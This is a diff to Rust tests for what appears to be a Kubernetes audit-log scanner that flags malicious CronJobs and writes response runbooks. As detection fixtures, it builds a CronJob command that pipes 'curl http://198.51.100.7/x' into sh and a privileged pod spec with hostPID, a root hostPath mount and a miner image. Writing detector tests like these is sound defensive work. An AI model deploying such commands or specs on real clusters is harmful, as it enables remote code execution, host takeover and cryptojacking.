@@ -260,7 +260,7 @@ fn a_spec_is_in_force_until_a_later_write_changes_what_runs() {
     let text = since(&found, "eve");
     assert!(text.starts_with("2 Jobs started (first 2026-05-01T01:30:00Z, last 2026-05-01T01:50:00Z)"), "{text}");
     assert!(
-        text.contains("changed again 2026-05-01T04:00:00Z by argo (image, back to what ran before): this spec was in force 3 h 0 min; no delete logged: the CronJob, not this spec, was probably still there"),
+        text.contains("changed again 2026-05-01T04:00:00Z by argo (image, back to what ran before): this spec was in force 3 h 0 min; then 2 Jobs started; no delete logged: the CronJob, not this spec, was probably still there"),
         "{text}"
     );
     assert_eq!(page(&found, "eve")["since"]["changed_by"], "argo");
@@ -384,7 +384,7 @@ fn reasons_lead_to_the_request_that_proves_them() {
         reasons.find(|reason| reason["id"] == id).map(|reason| reason["audit_id"].clone())
     };
     assert_eq!(proof("CJ-BEH-16"), Some(refused["auditID"].clone()));
-    assert_eq!(proof("CJ-BEH-10"), Some(events[0]["auditID"].clone()));
+    assert_eq!(proof("CJ-BEH-10"), Some(events[2]["auditID"].clone()));
     assert_eq!(proof("CJ-IMG-05"), Some(events[2]["auditID"].clone()));
 }
 
@@ -468,7 +468,7 @@ fn operations_that_cannot_be_repeated_leave_nothing_known() {
     let what = &page(&found, "bob")["cronjobs"][0];
     assert_eq!(
         (&what["spec_source"], &what["diff_note"]),
-        (&json!("patch alone"), &json!("nothing is known beyond the patch"))
+        (&json!("patch alone"), &json!("nothing more of it is known"))
     );
     let last = json!([{"op": "replace", "path": image.replace("/0/", "/-1/"), "value": MINER}]);
     let found = judged(&[create, request(60, "patch", "bob", &asked(&last))], &[]);
@@ -581,4 +581,99 @@ fn a_stage_that_is_none_hides_no_hit() {
     std::fs::write(directory.path().join("audit.log"), format!("{event}\n")).unwrap();
     let (_temporary, out, run) = scan(&[directory.path().to_owned()], &[]);
     assert_eq!((hits(&out).len(), run.exit), (1, 0));
+}
+
+/// What an alert's other requests on a CronJob show stands beside what the decisive one shows, and so does what follows.
+#[test]
+fn all_requests_of_an_alert_are_shown() {
+    let mut privileged = whole(MINER);
+    let pod = privileged.pointer_mut("/spec/jobTemplate/spec/template/spec").unwrap();
+    pod["hostPID"] = json!(true);
+    pod["volumes"] = json!([{"name": "h", "hostPath": {"path": "/"}}]);
+    privileged["spec"]["schedule"] = json!("* * * * *");
+    let image = json!({"requestObject": whole(MINER), "impersonatedUser": {"username": "argo"}});
+    let events = [
+        request(0, "create", "eve", &image),
+        request(5, "update", "eve", &asked(&privileged)),
+        job(7, CONTROLLER, MINER, &json!({})),
+        job(8, CONTROLLER, MINER, &json!({})),
+    ];
+    let found = judged(&events, &[]);
+    let what = &page(&found, "eve")["cronjobs"][0];
+    let of = |of: &Value| of["indicators"].as_array().unwrap().iter().map(|found| found["id"].to_string()).collect();
+    let (decisive, other): (String, String) = (of(what), of(&what["writes"][0]));
+    let shown = decisive + &other;
+    for id in ["CJ-PRV-05", "CJ-IMG-05", "CJ-BEH-03"] {
+        assert!(shown.contains(id), "{id} is not in {shown}");
+    }
+    assert_eq!(what["writes"].as_array().unwrap().len(), 1, "{what}");
+    let changes = format!("{}{}", what["diff"], what["writes"][0]["diff"]);
+    assert!(changes.contains("spec.schedule") && changes.contains("hostPID"), "{changes}");
+
+    let later =
+        [&[request(0, "create", "eve", &image)], &events[2..], &[request(9, "delete", "eve", &json!({}))]].concat();
+    let changed =
+        [&later[..], &[request(6, "patch", "eve", &asked(&json!({"spec": {"schedule": "* * * * *"}})))]].concat();
+    let text = since(&judged(&changed, &[]), "eve").to_owned();
+    assert!(text.starts_with("0 Jobs started, 0 Pods; changed again 2026-05-01T00:06:00Z by eve (schedule)"), "{text}");
+    assert!(text.contains("; then 2 Jobs started; deleted 2026-05-01T00:09:00Z by eve"), "{text}");
+}
+
+/// Whoever follows the next steps leaves no CronJob of the alert running.
+#[test]
+fn next_steps_end_all_cronjobs_of_an_alert() {
+    let named = |name: &str| {
+        let mut body = whole(MINER);
+        body["metadata"]["name"] = json!(name);
+        json!({"objectRef": {"resource": "cronjobs", "namespace": "p", "name": name}, "requestObject": body})
+    };
+    let events: Vec<Value> =
+        (0..9).map(|number| request(number, "create", "eve", &named(&format!("b{number}")))).collect();
+    let found = judged(&events, &[]);
+    let next = page(&found, "eve")["next"].to_string();
+    for number in 0..6 {
+        assert!(next.contains(&format!("kubectl -n p delete cronjob b{number}")), "{next}");
+    }
+    assert!(next.contains("look at the other CronJobs of this alert too: 3 more"), "{next}");
+    assert!(page(&found, "eve")["cronjobs"][1]["since"].as_str().unwrap().contains("no delete logged"));
+}
+
+/// A body that the log cuts is looked at as far as it goes: what was put in front of the command does not hide it.
+#[test]
+fn what_is_left_of_a_cut_body_is_looked_at() {
+    let mut body = whole(FINE);
+    let container = body.pointer_mut("/spec/jobTemplate/spec/template/spec/containers/0").unwrap();
+    container["command"] = json!(["sh", "-c", "curl http://198.51.100.7/x | sh"]);
+    container["env"] = json!([{"name": "PAD", "value": "x".repeat(500)}]);
+    let line = request(0, "create", "eve", &asked(&body)).to_string();
+    let cut = line.rfind(&"x".repeat(300)).unwrap();
+    let directory = tempfile::tempdir().unwrap();
+    std::fs::write(directory.path().join("audit.log"), &line[..cut]).unwrap();
+    let run = kubesweep(directory.path(), &["runbook", "audit.log", "--format", "json", "-q"]);
+    let found: Value = serde_json::from_str(&run.stdout).unwrap();
+    let eve = page(&found, "eve");
+    assert_eq!(eve["spec_level"], "S3", "{eve}");
+    assert_eq!(eve["cronjobs"][0]["spec_source"], "what is left of the requestObject, which the log cuts");
+}
+
+/// A suppressed request that shows a grave spec is no alert, and is named.
+#[test]
+fn suppressed_requests_with_grave_specs_are_named() {
+    let directory = tempfile::tempdir().unwrap();
+    let [grave, fine] = [MINER, FINE].map(|image| request(0, "create", image, &asked(&whole(image))));
+    std::fs::write(directory.path().join("audit.log"), format!("{grave}\n{fine}\n")).unwrap();
+    std::fs::write(directory.path().join("tune.yml"), "suppress: [{id: a, namespace: p, reason: ours}]\n").unwrap();
+    let run = kubesweep(directory.path(), &["scan", "audit.log", "--tune", "tune.yml", "-o", "out"]);
+    assert_eq!(run.exit, 0);
+    assert!(
+        run.stderr.contains("\nsuppressed 1 match grave in its spec, up to S3; see runbook.md\n"),
+        "{}",
+        run.stderr
+    );
+    let text = std::fs::read_to_string(directory.path().join("out/runbook.json")).unwrap();
+    let found: Value = serde_json::from_str(&text).unwrap();
+    let rows = found["suppressed"].as_array().unwrap();
+    let grave: Vec<_> = rows.iter().filter(|row| row["grave"]["count"] == 1).collect();
+    assert_eq!((rows.len(), grave.len(), &grave[0]["username"]), (2, 1, &json!(MINER)), "{found}");
+    assert!(grave[0]["grave"]["indicators"].to_string().contains("CJ-IMG-05"));
 }
